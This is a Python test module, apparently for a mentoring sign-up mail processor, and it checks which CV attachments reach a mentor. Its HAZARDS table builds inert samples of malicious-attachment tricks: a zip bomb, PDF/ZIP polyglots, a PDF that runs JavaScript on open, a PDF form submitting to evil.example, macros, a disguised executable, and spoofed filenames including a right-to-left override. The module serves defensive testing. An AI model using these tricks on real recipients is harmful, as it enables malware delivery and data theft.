"""A CV that comes with a sign-up, harmless or not, and what of it reaches the mentor."""

from __future__ import annotations

import io
import zipfile
from email.message import EmailMessage
from email.policy import SMTP

from processor.core.mail import OutboundMail
from tests.attack.mails_by_hand import SERVER
from tests.attack.people import LEE
from tests.attacks import JON, Attacked, to
from tests.cv_samples import docx, pdf
from tests.player import ADDRESS
from tests.post_office import see


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"a" * 80_000_000)
    return made.getvalue()


def packed_zip(name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, b"MZ" + bytes(100))
    return made.getvalue()


HAZARDS: dict[str, tuple[str | None, bytes, str]] = {
    "a PDF that is an archive as well": ("cv.pdf", pdf() + packed_zip("run.exe"), "pdf"),
    "an archive with a PDF behind it": ("cv.pdf", packed_zip("run.exe") + pdf(), "pdf"),
    "a PDF with a script": (
        "cv.pdf",
        pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        "pdf",
    ),
    "a PDF that sends a form": ("cv.pdf", pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "pdf"),
    "a bomb": ("cv.docx", bomb(), "octet-stream"),
    "macros": ("cv.docx", docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), "octet-stream"),
    "a program called a PDF": ("cv.pdf", b"MZ" + bytes(2000), "pdf"),
    "a page called a PDF": ("cv.pdf", b"<html><script>alert(1)</script></html>", "pdf"),
    "two endings": ("cv.pdf.exe", pdf(), "octet-stream"),
    "a name turned round": ("cv\u202efdp.exe", pdf(), "octet-stream"),
    "an ending behind blanks": ("cv.pdf" + " " * 200 + ".exe", pdf(), "octet-stream"),
    "a link of Windows": ("cv.lnk", b"L\0\0\0" + bytes(100), "octet-stream"),
    "an archive": ("cv.zip", packed_zip("cv.pdf"), "zip"),
}


def signs_up_with(
    world: Attacked, files: list[tuple[str | None, bytes, str]], *, inline: bool = False
) -> list[OutboundMail]:
    mail = EmailMessage(policy=SMTP)
    mail["Authentication-Results"] = f"{SERVER}; dmarc=pass header.from=college.example"
    mail["From"], mail["To"], mail["Subject"] = f"Lee Chan <{LEE}>", ADDRESS, "SIGN UP MENTEE"
    mail["Message-ID"] = f"<{world.player.taken}.cv@college.example>"
    mail.set_content("Name: Lee Chan\nPractice areas: Critical care\nGoals: To learn.\n")
    for name, content, kind in files:
        mail.add_attachment(
            content,
            maintype="application",
            subtype=kind,
            filename=name,
            disposition="inline" if inline else "attachment",
        )
    world.player.take_in(mail.as_bytes())
    return world.work()


def lee_is_introduced(world: Attacked) -> list[OutboundMail]:
    """Lee asks Jon, who says yes: all mails to Jon afterwards."""
    asked = to(world.write(LEE, "REQUEST M-1001", "Would you?"), JON)
    assert asked, "the request did not reach the mentor"
    world.reply(JON, asked[0], "Accept")
    world.later(hours=3)
    return to(world.player.post.sent, JON)


def files_in(mails: list[OutboundMail]) -> list[tuple[str, bytes]]:
    return [
        (part.get_filename(""), bytes(part.get_payload(decode=True) or b""))
        for mail in mails
        for part in see(mail).parts
        if part.get_filename("")
        and part.get_filename("") != "invite.ics"
        and part.get_content_type() != "message/rfc822"
    ]
